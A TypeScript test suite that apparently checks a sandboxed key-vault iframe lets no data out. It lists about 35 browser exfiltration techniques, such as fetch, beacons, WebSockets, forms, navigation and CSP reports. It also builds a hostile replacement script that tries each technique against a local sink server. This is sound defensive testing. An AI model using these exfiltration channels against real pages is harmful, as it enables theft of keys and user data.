/**
 * What a hostile script could do in the frame of the key, with the policy that is really sent: each way out
 * is tried there, towards a server that counts what arrives.
 * @module
 */

import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import type { Browser, Frame } from 'playwright-core'
import { launchWholeBrowser, NO_BROWSER, UI_DIRECTORY, until } from '../a-page.ts'
import {
  aWorkbenchServer,
  copied,
  makePair,
  openWorkbench,
  type Workbench,
  type WorkbenchServer,
} from './a-workbench.ts'

/** Scripts in the frame; SINK is another server, OWN the one that the page is from. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `fetch(SINK + '/fetch').catch(() => 0)`,
  'fetch without CORS': `fetch(SINK + '/nocors', { mode: 'no-cors' }).catch(() => 0)`,
  'fetch of its own server': `fetch(OWN + '/own-fetch').catch(() => 0)`,
  'fetch that outlives the page': `fetch(SINK + '/keepalive', { method: 'POST', keepalive: true, body: 'd' }).catch(() => 0)`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', SINK + '/xhr'); x.send()`,
  sendBeacon: `navigator.sendBeacon(SINK + '/beacon', 'd')`,
  image: `new Image().src = SINK + '/image'`,
  'style with a picture': `document.body.style.backgroundImage = 'url(' + SINK + '/css)'`,
  'style sheet': `link({ rel: 'stylesheet', href: SINK + '/sheet' })`,
  preload: `link({ rel: 'preload', as: 'image', href: SINK + '/preload' })`,
  prefetch: `link({ rel: 'prefetch', href: SINK + '/prefetch' })`,
  modulepreload: `link({ rel: 'modulepreload', href: SINK + '/modulepreload' })`,
  manifest: `link({ rel: 'manifest', href: SINK + '/manifest' })`,
  icon: `link({ rel: 'icon', href: SINK + '/icon' })`,
  'prerendering of its own server': `link({ rel: 'prerender', href: OWN + '/own-prerender' })`,
  WebSocket: `new WebSocket(SINK.replace('http', 'ws') + '/socket')`,
  EventSource: `new EventSource(SINK + '/events')`,
  form: `const f = document.createElement('form'); f.action = SINK + '/form'; document.body.append(f); f.submit()`,
  'window.open': `open(SINK + '/open')`,
  'link to another window': `const a = document.createElement('a'); a.href = SINK + '/link'; a.target = '_blank'; document.body.append(a); a.click()`,
  'navigation of the page': `top.location = SINK + '/top'`,
  'navigation of itself': `location = SINK + '/self'`,
  'navigation of itself to its own server': `location = OWN + '/own-self'`,
  'refresh by meta': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + SINK + '/meta'; document.head.append(m)`,
  'another frame': `const i = document.createElement('iframe'); i.src = SINK + '/frame'; document.body.append(i)`,
  object: `const o = document.createElement('object'); o.data = SINK + '/object'; document.body.append(o)`,
  media: `const v = document.createElement('video'); v.src = SINK + '/video'; document.body.append(v)`,
  font: `new FontFace('x', 'url(' + SINK + '/font)').load().catch(() => 0)`,
  script: `const s = document.createElement('script'); s.src = OWN + '/own-script'; document.body.append(s)`,
  import: `import(OWN + '/own-import').catch(() => 0)`,
  Worker: `new Worker(OWN + '/own-worker')`,
  'worker made of text': `new Worker(URL.createObjectURL(new Blob(['fetch("' + SINK + '/blob")'])))`,
  'download by a link': `const a = document.createElement('a'); a.href = SINK + '/download'; a.download = 'x'; document.body.append(a); a.click()`,
  'ping of a link': `const a = document.createElement('a'); a.href = '#'; a.ping = SINK + '/ping'; document.body.append(a); a.click()`,
  'report of a violation': `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri " + SINK + '/report'; document.head.append(m); new Image().src = SINK + '/reported'`,
}

/** What it may not reach. */
const OUT_OF_REACH: Readonly<Record<string, string>> = {
  'the page around it': 'parent.document.body',
  'the storage of the page': 'localStorage.length',
  'its cookies': 'document.cookie',
  'a database': `indexedDB.open('x')`,
  'text as a script': `eval('1')`,
  'text as markup': `document.body.innerHTML = '<b>x</b>'`,
}

/** A text as a part of an attribute. */
function attribute(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
}

/** A script in the place of the vault: it has a key, says so, and takes every way out in its own time. */
function hostileVault(sink: string): string {
  const ways = Object.values(WAYS_OUT).map((script) => `() => { ${script} }`)
  return `
    const SINK = ${JSON.stringify(sink)}, OWN = new URL(document.baseURI).origin;
    const link = (values) => document.head.append(Object.assign(document.createElement('link'), values));
    const jwk = { kty: 'EC', kid: 'hostile', d: 'secret' };
    addEventListener('message', ({ ports: [port] }) => {
      if (port === undefined) return;
      port.postMessage({ type: 'key', key: { jwk, algorithms: ['ES256'], thumbprint: 'hostile', pem: '' } });
      // In one turn: some of them end the frame.
      let tried = 0;
      for (const way of [${ways.join(', ')}]) { tried++; try { way() } catch {} }
      port.postMessage({ type: 'height', pixels: 1000 + tried });
    });`
}

suite('the frame of the key', { skip: NO_BROWSER }, () => {
  let browser: Browser
  let bench: WorkbenchServer
  let sink: Server
  let sinkUrl: string
  const hits: string[] = []

  before(async () => {
    browser = await launchWholeBrowser()
    bench = await aWorkbenchServer()
    sink = createServer((request, response) => {
      hits.push(request.url ?? '')
      response.end()
    })
    sink.on('upgrade', (request, socket) => {
      hits.push(request.url ?? '')
      socket.destroy()
    })
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve))
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
  })
  after(async () => {
    await browser.close()
    await bench.server.close()
    sink.closeAllConnections()
    sink.close()
  })

  async function open(): Promise<readonly [Workbench, Frame]> {
    const workbench = await openWorkbench(browser, bench.server.url)
    const frame = workbench.page.frames().find((each) => each.parentFrame() !== null)
    assert.ok(frame)
    return [workbench, frame]
  }

  test('is a document without an origin, in which keys can be made', async () => {
    const [workbench, frame] = await open()
    assert.equal(await frame.evaluate('self.origin'), 'null')
    assert.equal(await frame.evaluate('isSecureContext'), true)
    assert.equal(await frame.evaluate('location.href'), 'about:srcdoc')
    await makePair(workbench, 'ES256 · P-256')
    await workbench.close()
  })

  test('the sink hears those who may speak, so that its silence says something', async () => {
    await fetch(`${sinkUrl}/control`)
    assert.deepEqual(hits.splice(0), ['/control'])
  })

  test('lets nothing out, whichever way is tried', async () => {
    const ways = Object.entries(WAYS_OUT)
    const tried: string[] = []
    const tryNext = async (): Promise<void> => {
      for (let way = ways.pop(); way !== undefined; way = ways.pop()) {
        const [name, script] = way
        const [workbench, frame] = await open()
        const attempt = `(() => {
          const SINK = ${JSON.stringify(sinkUrl)}, OWN = ${JSON.stringify(bench.server.url)};
          const link = (values) => document.head.append(Object.assign(document.createElement('link'), values));
          try { ${script} } catch (error) { return String(error) }
        })()`
        await frame.evaluate(attempt).catch(() => undefined)
        await workbench.page.waitForTimeout(60)
        // Its policy was broken, as it had to be.
        await workbench.page.context().close()
        tried.push(name)
      }
    }
    await Promise.all(Array.from({ length: 4 }, tryNext))
    assert.equal(tried.length, Object.keys(WAYS_OUT).length)
    // What a browser holds back for a while would have come by now.
    await new Promise((resolve) => setTimeout(resolve, 500))
    assert.deepEqual(hits, [])
    const own = bench.server.requests.map(({ path }) => path)
    assert.deepEqual(
      own.filter((path) => path.startsWith('/own')),
      [],
    )
  })

  test(`can not reach ${Object.keys(OUT_OF_REACH).join(', ')}`, async () => {
    const [workbench, frame] = await open()
    for (const [name, script] of Object.entries(OUT_OF_REACH)) {
      // Later, in the frame's own time: what a debugger evaluates is let through.
      const attempt = `new Promise((resolve) => setTimeout(() => {
        try { ${script}; resolve('reached') } catch { resolve('refused') }
      }))`
      assert.equal(await frame.evaluate(attempt), 'refused', name)
    }
    await workbench.close()
  })

  test('shows on demand that it is shut, and the same script in an open frame shows the opposite', async () => {
    const workbench = await openWorkbench(browser, bench.server.url)
    const { page } = workbench
    await page.click('.isolation > summary')
    await page.click('#try-it')
    await page.waitForSelector('#trial-result[data-tried="16"][data-refused="16"]')
    assert.deepEqual(await page.evaluate('window.violations'), [])
    assert.equal(await page.locator('#trial-frame').count(), 0)
    const html = String(
      await page.evaluate(
        `document.getElementById('trial').content.firstElementChild.getAttribute('srcdoc')`,
      ),
    )
    const script = /<script>.*<\/script>/s.exec(html)?.[0] ?? ''
    const open = await workbench.page.context().newPage()
    await open.route('**/open', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<iframe sandbox="allow-scripts"></iframe>',
      }),
    )
    await open.goto(`${bench.server.url}/open`)
    const results = await open.evaluate(`new Promise((resolve) => {
      const heard = [];
      const frame = document.querySelector('iframe');
      frame.onload = () => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => { heard.push(data); if (heard.length === 16) resolve(heard); };
        frame.contentWindow.postMessage(location.origin, '*', [port2]);
      };
      frame.srcdoc = ${JSON.stringify(script).replaceAll('</', '<\\/')};
    })`)
    assert.deepEqual(
      (results as readonly { way: string; isRefused: boolean }[])
        .filter(({ isRefused }) => isRefused)
        .map(({ way }) => way)
        .toSorted(),
      // What the sandbox alone refuses.
      ['navigation', 'page', 'storage', 'window', 'worker'],
    )
    await workbench.close()
  })

  test('lets nothing out although its own script was replaced by a hostile one', async (context) => {
    const folder = mkdtempSync(join(tmpdir(), 'keygrant-hostile-'))
    cpSync(UI_DIRECTORY, folder, { recursive: true })
    const file = join(folder, 'workbench.html')
    const html = readFileSync(file, 'utf8')
    const [, text = ''] = / srcdoc="([^"]+)"/.exec(html) ?? []
    const [, own = ''] =
      /<script>(.*)<\/script>/s.exec(text.replaceAll('&quot;', '"').replaceAll('&amp;', '&')) ?? []
    const hostile = hostileVault(sinkUrl)
    const hashOf = (script: string): string => createHash('sha256').update(script).digest('base64')
    // Whoever can replace the script can name it in the policy: all else is as it is built.
    const replaced = html
      .replace(/<script>.*?<\/script>/s, () => `<script>${attribute(hostile)}</script>`)
      .replaceAll(hashOf(own), hashOf(hostile))
    assert.notEqual(replaced, html)
    writeFileSync(file, replaced)
    const other = await aWorkbenchServer('strict', { uiDirectory: folder })
    context.after(async () => {
      await other.server.close()
      rmSync(folder, { recursive: true })
    })
    const workbench = await openWorkbench(browser, other.server.url)
    const { page } = workbench
    await page.waitForSelector('#thumbprint:has-text("hostile")')
    await until(
      page,
      `document.getElementById('vault').style.height === '${1000 + Object.keys(WAYS_OUT).length}px'`,
    )
    await page.waitForTimeout(500)
    // The page takes no private member from it either.
    await page.click('text=Copy JWK >> nth=0')
    assert.deepEqual(Object.keys(JSON.parse(await copied(page)) as object), ['kty', 'kid'])
    assert.equal(page.url(), `${other.server.url}/workbench`)
    assert.deepEqual(hits, [])
    assert.deepEqual(
      other.server.requests.map(({ path }) => path).filter((path) => path.startsWith('/own-')),
      [],
    )
    await page.context().close()
  })

  test('hears nobody but the page around it', async () => {
    const [workbench, frame] = await open()
    await makePair(workbench, 'ES256 · P-256')
    // Another window of the frame hands over a port: it is not the parent.
    const answer = await frame.evaluate(`new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => resolve('heard');
      postMessage('port', '*', [port2]);
      setTimeout(() => resolve('silent'), 300);
    })`)
    assert.equal(answer, 'silent')
    await workbench.close()
  })

  test('tells the page nothing private, whatever it is asked', async () => {
    const [workbench, frame] = await open()
    const { page, vault } = workbench
    await makePair(workbench, 'ES256 · P-256')
    await vault.locator('#show').click()
    const shown = String(await vault.locator('#shown').textContent())
    const { d } = JSON.parse(shown) as { d: string }
    assert.match(d, /^[\w-]{43}$/)
    const heard = await page.evaluate(`new Promise((resolve) => {
      const heard = [];
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
      document.getElementById('vault').contentWindow.postMessage('port', '*', [port2]);
      for (const type of ['export', 'private', 'key', 'show', '__proto__', 'constructor']) port1.postMessage({ type });
      port1.postMessage({ type: 'sign', id: 1, alg: 'ES256', header: {}, payload: 'x', isThrowaway: false });
      port1.postMessage({ type: 'sign', id: 2, alg: 'ES256', header: '{}', payload: '{}', isThrowaway: false });
      setTimeout(() => resolve(heard), 300);
    })`)
    const texts = heard as readonly string[]
    assert.ok(texts.some((text) => text.includes('"signed"')))
    assert.ok(!texts.some((text) => text.includes('"id":1')))
    assert.ok(!texts.some((text) => text.includes(d)))
    assert.equal(await frame.evaluate('Object.keys(window).includes("held")'), false)
    await workbench.close()
  })
})
